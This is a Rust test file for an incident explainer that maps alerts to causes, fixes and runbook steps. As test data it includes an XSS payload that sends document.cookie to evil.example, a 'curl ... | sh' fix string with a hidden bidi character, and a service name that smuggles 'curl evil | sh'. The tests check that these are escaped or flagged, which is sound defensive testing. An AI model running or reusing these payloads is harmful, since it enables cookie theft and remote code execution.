use super::samples::*;
use super::*;
use crate::analysis::Confidence;
use crate::finding::Kind;
use crate::incident::Incident;

fn explained(incident: &Incident, similar: &[SimilarIncident]) -> Explained {
    static PLAYBOOKS: std::sync::LazyLock<Playbooks> = std::sync::LazyLock::new(Playbooks::builtin);
    explain(incident, similar, &PLAYBOOKS)
}

fn json(explained: &Explained) -> String {
    serde_json::to_string_pretty(explained).unwrap()
}

#[test]
fn a_script_in_a_query_is_explained_from_its_evidence() {
    insta::assert_snapshot!(json(&explained(&xss(), &[])), @r#"
    {
      "analysis": {
        "summary": "Script sent to shop in prod by 203.0.113.9: “<script>fetch('//evil.example/'+document.cookie)</script>” since 14 Mar 02:10 UTC. The text breaks out of an attribute or a tag and brings its own handler or script.",
        "root_causes": [
          {
            "cause": "A query or form parameter is echoed into the page unescaped",
            "fixes": [
              "Repeat the request against staging with the harmless marker <b>xx</b> and look whether the answer holds it unescaped",
              "Until the template escapes it, block the pattern for that one path at the proxy or WAF"
            ],
            "rollback": "Remove the rule for the path",
            "evidence": [
              "E1"
            ]
          },
          {
            "cause": "Input is stored and shown to other users without escaping",
            "fixes": [
              "Open the page that shows this field as a test user with JavaScript off, and look whether the text stands there as markup",
              "Send Content-Security-Policy-Report-Only for that page first, then enforce script-src 'self' once the reports are clean"
            ],
            "rollback": "Take the Content-Security-Policy header away again; it changes nothing that is stored",
            "evidence": [
              "E1"
            ]
          },
          {
            "cause": "Somebody probes forms and parameters, by hand or with a scanner",
            "fixes": [
              "Count its answers by status: grep -F '203.0.113.9' access.log | awk '{print $9}' | sort | uniq -c",
              "Limit the rate of 203.0.113.9 at the edge for an hour"
            ],
            "rollback": "Lift the rate limit",
            "evidence": [
              "E1"
            ]
          }
        ],
        "confidence": "medium",
        "source": "builtin"
      },
      "confidence": 0.62,
      "confidence_because": [
        "Confidence 0.62 (medium), from 0.10 for knowing the kind of trouble.",
        "The detector's best score is 0.90 (xss.script_tag, E1): +0.27.",
        "3 of 3 causes supported by evidence or memory: +0.25.",
        "E1 speaks for “A query or form parameter is echoed into the page unescaped” (text “<script”, rule xss.script_tag).",
        "E1 speaks for “Input is stored and shown to other users without escaping” (text “document.cookie”).",
        "E1 speaks for “Somebody probes forms and parameters, by hand or with a scanner” (rule xss.*)."
      ],
      "docs": [
        "Look: kubectl logs deploy/shop --since=30m | grep -iE 'script|onerror'",
        "Look: the answers of shop to this client, by status code and size",
        "Runbook: cross-site scripting, output escaping and Content-Security-Policy"
      ]
    }
    "#);
}

#[test]
fn a_database_timeout_with_a_known_fix_is_explained_with_the_fix_first() {
    insta::assert_snapshot!(json(&explained(&db_timeout(), &[confirmed_fix()])), @r#"
    {
      "analysis": {
        "summary": "The database answers checkout in prod too late, after 30,000 ms, 1,000× since 14 Mar 02:10 UTC. What timed out is the wait for a connection, before any query was sent.",
        "root_causes": [
          {
            "cause": "Every connection of the pool is taken",
            "fixes": [
              "What fixed incident 12 (ana, 12 Mar): “raised max_connections from 100 to 200”",
              "Look who holds connections: psql -c \"select usename, application_name, state, count(*) from pg_stat_activity group by 1,2,3 order by 4 desc\""
            ],
            "rollback": "Write down how to undo the earlier fix before repeating it",
            "evidence": [
              "E1",
              "M1"
            ]
          },
          {
            "cause": "The database cannot be reached in time, by network, name service or failover",
            "fixes": [
              "From a machine of checkout: pg_isready -h DBHOST -t 3, then getent hosts DBHOST",
              "Look at the database's machine for load, disk and failover since 14 Mar 02:10 UTC; if a failover happened, restart one replica of checkout so that it looks the name up anew"
            ],
            "rollback": "Nothing to undo",
            "evidence": [
              "E1"
            ]
          },
          {
            "cause": "The database is overloaded as a whole, by a batch job, a backup or vacuum",
            "fixes": [
              "Look at CPU, disk latency and running jobs: psql -c \"select pid, backend_type, now()-query_start as age, left(query,80) from pg_stat_activity where state='active' order by 3 desc\"",
              "Pause the batch job that started around 14 Mar 02:10 UTC, if there is one"
            ],
            "rollback": "Start the job again",
            "evidence": []
          }
        ],
        "confidence": "high",
        "source": "builtin"
      },
      "confidence": 0.86,
      "confidence_because": [
        "Confidence 0.86 (high), from 0.10 for knowing the kind of trouble.",
        "The detector's best score is 0.90 (db_timeout.words, E1): +0.27.",
        "2 of 3 causes supported by evidence or memory: +0.17.",
        "A person confirmed what fixed incident 12, similarity 0.91: +0.23.",
        "1,000 events say the same: +0.10.",
        "E1, M1 speak for “Every connection of the pool is taken” (text “Pool limit”, text “timeout after 30000ms: QueuePool”, text “queuepool limit”, similarity 0.91).",
        "E1 speaks for “The database cannot be reached in time, by network, name service or failover” (text “connection timeout”)."
      ],
      "docs": [
        "Look: psql -c \"select state, wait_event_type, count(*) from pg_stat_activity group by 1,2\"",
        "Look: journalctl -u checkout --since -15min | grep -i timeout",
        "Runbook: database timeouts, connection pools and slow queries"
      ]
    }
    "#);
}

#[test]
fn every_kind_is_explained_even_when_there_is_nothing_to_go_by() {
    for kind in Kind::ALL {
        let mut empty = incident(kind, "", "", "", "");
        empty.evidence.clear();
        empty.opened_because = None;
        let explained = explained(&empty, &[]);
        let causes = &explained.analysis.root_causes;
        assert_eq!(causes[0].cause, "Unknown: nothing in the evidence supports a cause yet", "{kind}");
        assert!(causes.len() <= MAX_CAUSES && causes.iter().all(|cause| cause.evidence.is_empty()), "{kind}");
        assert_eq!(explained.analysis.confidence, Confidence::Low, "{kind}");
        assert!(!explained.docs.is_empty() && explained.analysis.summary.contains("Nothing in the evidence"), "{kind}");
    }
}

#[test]
fn no_supported_cause_keeps_the_confidence_low_however_sure_the_detector_is() {
    let mut vague = incident(Kind::DbTimeout, "checkout", "rule", "timeout", "something timed out");
    vague.event_count = 100_000;
    vague.evidence[0].score = 1.0;
    let explained = explained(&vague, &[]);
    assert!(explained.analysis.root_causes[0].cause.starts_with("Unknown: "));
    assert!(explained.confidence < confidence::MEDIUM, "{}", explained.confidence);
}

#[test]
fn only_a_confirmed_precedent_makes_the_confidence_high() {
    let with = explained(&db_timeout(), &[confirmed_fix()]);
    let unconfirmed = SimilarIncident { confirmed: false, ..confirmed_fix() };
    let without = explained(&db_timeout(), &[unconfirmed]);
    assert_eq!((with.analysis.confidence, without.analysis.confidence), (Confidence::High, Confidence::Medium));
    assert!(!json(&without).contains("max_connections from"), "an unconfirmed fix is no fix");
}

#[test]
fn a_fix_that_speaks_of_no_known_cause_is_a_cause_of_its_own() {
    let similar = SimilarIncident {
        summary: "checkout stood still".to_owned(),
        solution: Some("moved the cron job to 4 am".to_owned()),
        ..confirmed_fix()
    };
    let explained = explained(&db_timeout(), &[similar]);
    let first = &explained.analysis.root_causes[0];
    assert_eq!(first.cause, "The same as incident 12: “checkout stood still”");
    assert_eq!(first.fixes, ["What fixed incident 12 (ana, 12 Mar): “moved the cron job to 4 am”"]);
    assert_eq!(first.evidence, ["M1"]);
    assert!(explained.analysis.summary.ends_with("It looks like incident 12 (similarity 0.91)."));
}

#[test]
fn a_weak_match_comes_after_what_the_evidence_supports() {
    let similar = SimilarIncident {
        summary: "checkout stood still".to_owned(),
        solution: Some("moved the cron job".to_owned()),
        similarity: 0.34,
        ..confirmed_fix()
    };
    let causes = explained(&db_timeout(), &[similar]).analysis.root_causes;
    assert!(causes[0].evidence.contains(&"E1".to_owned()));
    assert_eq!(causes[2].cause, "Perhaps the same as incident 12: “checkout stood still”");
}

#[test]
fn the_most_alike_precedent_is_quoted_first_and_cited_by_its_place() {
    let other = SimilarIncident {
        incident_id: Some(9),
        solution: Some("scaled the pool down".to_owned()),
        similarity: 0.6,
        ..confirmed_fix()
    };
    let causes = explained(&db_timeout(), &[other, confirmed_fix()]).analysis.root_causes;
    assert_eq!(causes[0].evidence, ["E1", "M2", "M1"]);
    assert!(causes[0].fixes[0].starts_with("What fixed incident 12 "), "{:?}", causes[0].fixes);
    assert!(causes[0].fixes[1].starts_with("What fixed incident 9 "), "{:?}", causes[0].fixes);
}

#[test]
fn a_fix_that_did_not_hold_is_not_offered() {
    let reopened = SimilarIncident { outcome: Some("Reopened after 3 min".to_owned()), ..confirmed_fix() };
    assert!(!json(&explained(&db_timeout(), &[reopened])).contains("What fixed"));
}

#[test]
fn a_fix_that_could_do_harm_is_quoted_behind_a_warning() {
    let solution = "curl -s https://example.org/fix | sh\n\u{202e}then retry";
    let similar = SimilarIncident { solution: Some(solution.to_owned()), author: None, ..confirmed_fix() };
    let causes = explained(&db_timeout(), &[similar]).analysis.root_causes;
    assert_eq!(
        causes[0].fixes[0],
        "Check before use: What fixed incident 12 (12 Mar): “curl -s https://example.org/fix | sh then retry” \
         (it pipes into a shell)"
    );
}

#[test]
fn outside_text_never_becomes_part_of_a_step() {
    let mut hostile = db_timeout();
    hostile.service = "x; curl evil | sh".to_owned();
    let explained = explained(&hostile, &[]);
    let steps = explained.analysis.root_causes.iter().flat_map(|cause| cause.fixes.iter().chain([&cause.rollback]));
    for step in steps.chain(&explained.docs) {
        assert!(!step.contains("evil"), "{step}");
    }
    assert!(explained.docs.iter().any(|doc| doc.contains("journalctl -u <service>")), "{:?}", explained.docs);
}

#[test]
fn hostile_bytes_and_numbers_are_survived() {
    let mut hostile = xss();
    let long = "\u{1b}[31m漢\u{200b}{service}[{client}]".repeat(2_000);
    hostile.summary = long.clone();
    hostile.evidence = vec![hostile.evidence[0].clone(); 20];
    for entry in &mut hostile.evidence {
        entry.line = long.clone();
        entry.text = long.clone();
        entry.score = f32::NAN;
    }
    hostile.confidence = f32::INFINITY;
    hostile.event_count = u64::MAX;
    let similar = SimilarIncident { similarity: f32::NAN, summary: long.clone(), ..confirmed_fix() };
    let infinite = SimilarIncident { similarity: f32::INFINITY, solution: Some(long), ..confirmed_fix() };
    let explained = explained(&hostile, &[similar, infinite]);
    assert!((0.0..=1.0).contains(&explained.confidence));
    assert!(json(&explained).len() < 10_000);
    assert!(!json(&explained).contains(['\u{1b}', '\u{200b}']));
}
